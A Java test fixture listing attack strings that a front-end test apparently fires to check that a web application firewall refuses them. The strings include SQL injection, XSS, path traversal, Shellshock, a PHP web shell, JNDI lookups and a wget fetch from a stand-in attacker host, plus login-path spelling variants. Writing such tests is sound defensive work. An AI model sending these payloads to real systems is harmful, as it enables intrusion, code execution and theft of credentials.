package florin.deploy;

import java.util.List;

/**
 * What attackers send, one of each sort that CRS knows and that has a meaning here. Texts only:
 * {@code FrontTest} puts them where they could do harm.
 */
final class Refused {
  private Refused() {}

  /** For a parameter of the query and for a text in JSON. */
  static final List<String> TEXTS =
      List.of(
          "' OR '1'='1",
          "1' OR 1=1-- -",
          "1 UNION SELECT email, password_hash FROM app_user",
          "1; DROP TABLE journal",
          "1 AND SLEEP(5)",
          "1' AND (SELECT pg_sleep(5))--",
          "x'; COPY entry TO PROGRAM 'id'--",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<iframe src=javascript:alert(1)>",
          "javascript:alert(document.cookie)",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "/etc/passwd",
          "/proc/self/environ",
          "; cat /etc/passwd",
          "| id; uname -a",
          "$(cat /etc/passwd)",
          "`wget http://evil.example/x.sh`",
          "& ping -c 9 127.0.0.1 &",
          "() { :; }; echo vulnerable",
          "${jndi:ldap://evil.example/a}",
          "${${lower:j}ndi:rmi://evil.example/a}",
          "java.lang.Runtime",
          "<?php system($_GET['c']); ?>",
          "php://filter/convert.base64-encode/resource=index.php",
          "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
          "require('child_process').exec('id')",
          "http://169.254.169.254/latest/meta-data/?a=/etc/passwd",
          "value%0d%0aSet-Cookie:%20a=b\r\nSet-Cookie: a=b",
          "<!--#exec cmd=\"/bin/ls\" -->",
          "<form action=http://evil.example><input name=password>");

  /** Each is a path as it is sent. */
  static final List<String> PATHS =
      List.of(
          "/.git/config",
          "/.env",
          "/.aws/credentials",
          "/wp-config.php",
          "/v1/accounts/..%2f..%2fetc%2fpasswd",
          "/../../../etc/passwd",
          "/v1/accounts/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
          "/v1/accounts/%3Csvg%20onload=alert(1)%3E",
          "/v1/accounts/1'%20OR%20'1'='1",
          "/v1/transfers/1%20UNION%20SELECT%201,2--",
          "/v1/transfers/$%7Bjndi:ldap:x%7D",
          "/v1/holds/%00");

  /** A header and its value. */
  static final List<List<String>> HEADERS =
      List.of(
          List.of("User-Agent", "sqlmap/1.7 (https://sqlmap.org)"),
          List.of("User-Agent", "Nikto/2.5"),
          List.of("User-Agent", "() { :; }; /bin/bash -c id"),
          List.of("Referer", "https://x.example/?a=<script>alert(1)</script>"),
          List.of("Cookie", "a=../../../../etc/passwd"),
          List.of("User-Agent", "<script>alert(1)</script>"),
          List.of("Cookie", "a=' UNION SELECT password FROM app_user--"),
          List.of("Cookie", "a=<script>alert(1)</script>"),
          List.of("Content-Encoding", "gzip"),
          List.of("Proxy", "evil.example:80"));

  /** Other ways to write the path of a log-in, which is limited. */
  static final List<String> SPELLINGS =
      List.of(
          "/v1/auth/login/",
          "//v1/auth/login",
          "/v1//auth/login",
          "/v1/auth//login",
          "/v1/auth/login;a=b",
          "/v1/auth;/login",
          "/v1;x/auth/login",
          "/v1/auth%2flogin",
          "/v1%2Fauth/login",
          "/%76%31/auth/login",
          "/v1/auth/%6cogin",
          "/v1/auth/login%20",
          "/v1/auth/login%00",
          "/v1/auth/login.json",
          "/V1/auth/login",
          "/v1/Auth/login",
          "/v1/auth/LOGIN",
          "/v1/auth/./login",
          "/v1/x/../auth/login",
          "/v1/auth/login/.",
          "/./v1/auth/login",
          "/v1/auth/login%2f",
          "/v1/auth\\login");
}
